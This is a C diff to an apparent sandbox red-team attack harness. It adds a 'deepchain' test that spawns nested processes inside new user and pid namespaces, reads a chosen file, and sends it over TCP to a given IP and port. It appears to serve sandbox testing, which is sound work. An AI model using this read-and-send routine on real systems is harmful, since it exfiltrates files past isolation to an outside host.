@@ -1153,6 +1153,44 @@ static long start_fillers(int n, int keep, pid_t *pids) {
     return nfd;
 }
 
+/* deepchain (red team round 6, deep-nested-pidns): a chain of processes in a pid
+ * namespace of their own, each cloning the next (CLONE_VM: its own 16 KiB of a
+ * shared stack area) and waiting for it; the last opens `deep_path`, reads it,
+ * and connects and sends it. */
+static const char *deep_path, *deep_ip, *deep_port;
+static int deep_depth;
+static char *deep_stacks;
+static int deep_level(void *arg) {
+    long l = (long)arg;
+    if (l >= deep_depth) {
+        int fd = open(deep_path, O_RDONLY);
+        report("deepchain open", fd);
+        char buf[256] = "LEAK:";
+        ssize_t k = fd >= 0 ? read(fd, buf + 5, sizeof buf - 6) : -1;
+        printf("deepchain read at depth %ld: %zd\n", l, k);
+        fflush(stdout);
+        struct sockaddr_in sa;
+        int s = inet_socket(SOCK_STREAM, deep_ip, atoi(deep_port), &sa);
+        long r = s >= 0 ? connect(s, (struct sockaddr *)&sa, sizeof sa) : -1;
+        if (s >= 0) report("deepchain connect", r);
+        if (r == 0 && k > 0) report("deepchain send", send(s, buf, 5 + k, 0));
+        return 0;
+    }
+    pid_t k = clone(deep_level, deep_stacks + (l + 1) * 16384, CLONE_VM | SIGCHLD, (void *)(l + 1));
+    if (k < 0) return 1;
+    int st = 0;
+    waitpid(k, &st, __WALL);
+    return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
+}
+static int deep_chain(void *unused) {
+    (void)unused;
+    deep_stacks = mmap(0, (size_t)(deep_depth + 2) * 16384, PROT_READ | PROT_WRITE,
+                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    if (deep_stacks == MAP_FAILED) return 1;
+    return deep_level((void *)1L);
+}
+static char deep_stack0[1 << 16];
+
 int main(int argc, char **argv) {
     if (argc < 2) {
         fprintf(stderr, "usage: attack NAME [ARGS]\n");
@@ -1839,6 +1877,20 @@ int main(int argc, char **argv) {
         printf("fifoswap: %d of %d exchanges\n", ok, n);
         fflush(stdout);
         return 0;
+    }
+    if (!strcmp(name, "deepchain") && argc == 6) {
+        // deepchain PATH DEPTH IP PORT: a chain of DEPTH processes in a new user
+        // and pid namespace (see deep_level); the last reads PATH and sends it.
+        deep_path = argv[2];
+        deep_depth = atoi(argv[3]);
+        deep_ip = argv[4];
+        deep_port = argv[5];
+        pid_t p = clone(deep_chain, deep_stack0 + sizeof deep_stack0, CLONE_NEWUSER | CLONE_NEWPID | SIGCHLD, 0);
+        report("deepchain clone", p);
+        if (p < 0) return 1;
+        int st = 0;
+        waitpid(p, &st, 0);
+        return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
     }
     if (!strcmp(name, "tcp") && argc >= 5) {
         // tcp IP PORT MESSAGE [SECRET]: connect and send.
